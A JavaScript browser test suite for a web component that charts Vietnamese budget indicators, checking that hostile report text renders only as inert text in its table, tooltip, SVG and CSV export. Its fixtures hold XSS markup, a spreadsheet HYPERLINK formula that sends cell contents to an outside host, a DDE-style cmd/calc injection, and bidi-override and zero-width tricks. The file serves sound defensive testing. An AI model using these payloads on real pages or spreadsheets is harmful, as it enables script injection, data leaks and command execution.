/** Hostile texts: whatever a report calls its indicators is text in canvas, table, tooltip, SVG and CSV, and no more. */
import assert from 'node:assert/strict';
import test, { after } from 'node:test';

import { closeBrowser, inChromium, openPage, settle } from './support/browser.mjs';

after(closeBrowser);

const HOSTILE = {
  markup: '<img src=x onerror="window.hit=1"><script>window.hit=1</script>',
  quotes: '"\'`]]>--><svg onload=window.hit=1>&lt;b&gt;',
  formula: '=HYPERLINK("http://vi.du/?"&A1;"mở")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  backwards: 'Thu\u202e ngân sách\u2066',
  unseen: 'Chi\u200b ngân\u200d sách\ufeff',
  controls: 'Xuất\u0000khẩu\u0007\n\thàng\u001bhóa',
  halves: 'Vốn \ud800 đầu tư \udc00',
  marks: `Nợ${'\u0301'.repeat(3000)} xấu`,
};

const report = (names, unit = 'tỷ đồng') => ({
  title: HOSTILE.markup,
  place: HOSTILE.quotes,
  period: { months: 9, year: 2022 },
  indicators: names.map((name) => ({ name, group: HOSTILE.markup, unit, value: 1234, completion: 70.5, growth: 6.3 })),
});

/** An element that shows `given`, on a page that also says what was asked of the network and what was run. */
async function show(given, reader = {}) {
  const opened = await openPage('/pages/twice.html', reader);
  await settle(opened.page);
  const chart = opened.page.locator('chi-tieu');
  await chart.evaluate(async (chart, given) => {
    chart.report = given;
    await chart.drawn;
  }, given);
  return { ...opened, chart };
}

async function assertHarmless({ page, errors, violations, failures }) {
  assert.equal(await page.evaluate(() => window.hit), undefined, 'a text was run');
  assert.deepEqual({ errors, violations, failures }, { errors: [], violations: [], failures: [] });
}

test('hostile names are drawn, and stand in the table as they are', async () => {
  const opened = await show(report(Object.values(HOSTILE)));
  const rows = await opened.chart.evaluate(({ shadowRoot }) => {
    const elements = [...shadowRoot.querySelectorAll('table *')].map(({ localName }) => localName);
    const heads = [...shadowRoot.querySelectorAll('tbody th')].map(({ textContent }) => textContent);
    return { elements: [...new Set(elements)].sort(), heads };
  });
  assert.deepEqual(rows.elements, ['caption', 'span', 'tbody', 'td', 'th', 'thead', 'tr']);
  assert.equal(rows.heads.length, Object.keys(HOSTILE).length);
  assert.equal(rows.heads[0], HOSTILE.markup);
  assert.equal(rows.heads[4], 'Thu ngân sách', 'no mark turns the direction');
  assert.equal(rows.heads[5], 'Chi ngân sách');
  assert.doesNotMatch(rows.heads.join(''), /[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/);
  await assertHarmless(opened);
  await opened.close();
});

test('a unit cannot turn the number beside it', async () => {
  const opened = await show(report(['Thu ngân sách'], '\u202etỷ đồng'));
  const cells = await opened.chart.evaluate(({ shadowRoot }) => shadowRoot.querySelector('tbody').textContent);
  assert.match(cells, /1\.234 tỷ đồng/);
  assert.doesNotMatch(cells, /\u202e/);
  await assertHarmless(opened);
  await opened.close();
});

test('in the tooltip they are text', inChromium('its driver gives the focus as a click does'), async () => {
  const opened = await show(report([HOSTILE.markup, HOSTILE.quotes]));
  await opened.chart.locator('canvas').focus();
  await opened.page.keyboard.press('Tab');
  await opened.chart.locator('canvas').focus();
  const tip = opened.chart.locator('.tip:not([hidden])');
  await tip.waitFor();
  assert.equal(await tip.locator('img, script, svg').count(), 0);
  assert.ok((await tip.locator('.name').innerText()).startsWith('<img src=x'));
  await assertHarmless(opened);
  await opened.close();
});

test('the SVG is well formed and has nothing that runs', async () => {
  const opened = await show(report(Object.values(HOSTILE)), { policy: 'none' });
  const seen = await opened.chart.evaluate(async (chart) => {
    const tree = new DOMParser().parseFromString(await chart.toSVG(), 'image/svg+xml');
    const all = [...tree.querySelectorAll('*')];
    return {
      names: [...new Set(all.map(({ localName }) => localName))].sort(),
      attributes: [...new Set(all.flatMap((each) => each.getAttributeNames()))].filter((name) => /^on|href|style/.test(name)),
      text: tree.documentElement.textContent.includes('<img src=x'),
    };
  });
  assert.equal(seen.text, true);
  assert.deepEqual(seen.attributes, []);
  assert.ok(seen.names.every((name) => ['circle', 'desc', 'g', 'line', 'path', 'polygon', 'polyline', 'rect', 'svg', 'text', 'title']
    .includes(name)), seen.names.join());
  await assertHarmless(opened);
  await opened.close();
});

test('the CSV has no formula', async () => {
  const opened = await show(report([...Object.values(HOSTILE), '+1', '-2+3', '\tx', '\rx', ' =1', '＝1+1']));
  const csv = await opened.chart.evaluate((chart) => chart.toCSV());
  // Cells by the rules of CSV: quoted ones may hold any mark.
  const cells = [...csv.slice(1).matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;"\r\n]*))/g)].map(([, quoted, plain]) => quoted ?? plain);
  assert.ok(cells.some((cell) => cell.startsWith("'=HYPERLINK")), csv.slice(0, 500));
  const formulas = cells.filter((cell) => /^[=+@\t\r＝＋－＠]|^-(?![\d,]+$)/.test(cell.trimStart()));
  assert.deepEqual(formulas, []);
  await assertHarmless(opened);
  await opened.close();
});

test('a name of a megabyte is drawn, and read in full', async () => {
  const name = 'thu ngân sách '.repeat(65_536);
  const opened = await show({ indicators: [{ name, value: 5 }, { name: 'x'.repeat(1_000_000), value: 6, growth: 2 }] });
  const length = await opened.chart.evaluate(async (chart) => (await chart.toReport()).indicators[0].name.length);
  assert.equal(length, name.length);
  assert.ok((await opened.chart.boundingBox()).width <= 1280);
  assert.equal(await opened.page.evaluate(() => document.documentElement.scrollWidth), 1280);
  await assertHarmless(opened);
  await opened.close();
});

/** Reports that are refused: each with the path of the error. */
const REFUSED = [
  ['lists that stand in one another without end', (depth) => {
    let value = 1;
    for (let level = 0; level < depth; level++) value = [value];
    return { indicators: [{ name: 'Thu', value }] };
  }, 100_000, 'indicators[0].value'],
  ['a list that holds itself', () => {
    const indicators = [];
    indicators.push(indicators);
    return { indicators };
  }, 0, 'indicators[0]'],
  ['more values than there can be', (count) => ({ indicators: new Array(count) }), 4_000_000_000, 'indicators'],
  ['a text for a number, past the first indicators that are told together', (count) => ({
    indicators: Array.from({ length: count }, (_, place) => ({ name: `Thu ${place}`, value: place === 150 ? 'x' : place })),
  }), 200, 'indicators[150].value'],
  ['a value that throws', () => ({ get indicators() { throw new Error('no'); } }), 0, 'indicators'],
];

for (const [what, make, size, path] of REFUSED) {
  test(`${what}: one error that names the path, and the next report is drawn`, async () => {
    const { chart, errors, close } = await show({ indicators: [{ name: 'Thu', value: 1 }] }, { policy: 'none' });
    const told = await chart.evaluate(async (chart, [make, size]) => {
      const told = [];
      chart.addEventListener('chi-tieu-error', ({ detail }) => told.push([detail.code, detail.path]));
      // What JSON cannot hold must be made on the page.
      chart.report = (0, eval)(`(${make})`)(size);
      await chart.drawn;
      chart.report = { indicators: [{ name: 'Chi', value: 2 }] };
      await chart.drawn;
      return [...told, (await chart.toReport()).indicators[0].name];
    }, [String(make), size]);
    assert.deepEqual(told, [['bad-json', path], 'Chi']);
    assert.equal(errors.length, 1);
    await close();
  });
}

test('JSON text that is nested without end is refused in one line', async () => {
  const { page, errors, close } = await show({ indicators: [{ name: 'Thu', value: 1 }] }, { policy: 'none' });
  const code = await page.evaluate(async () => {
    const script = Object.assign(document.createElement('script'), { type: 'application/json' });
    script.textContent = `{"indicators": ${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
    const chart = document.createElement('chi-tieu');
    chart.append(script);
    const told = new Promise((resolve) => { chart.addEventListener('chi-tieu-error', ({ detail }) => resolve(detail.code)); });
    document.body.prepend(chart);
    return told;
  });
  assert.equal(code, 'bad-json');
  assert.equal(errors.length, 1);
  assert.ok(errors[0].length < 600, errors[0]);
  await close();
});
